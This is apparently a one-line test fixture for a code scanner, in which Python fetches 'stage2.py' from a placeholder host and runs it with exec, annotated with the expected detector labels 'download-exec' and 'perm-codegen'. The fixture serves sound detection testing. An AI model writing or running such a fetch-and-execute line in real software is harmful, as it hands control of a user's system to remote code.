# exec of data fetched from the network
from urllib.request import urlopen

exec(urlopen("https://example.org/stage2.py").read())  # expect: download-exec, perm-codegen
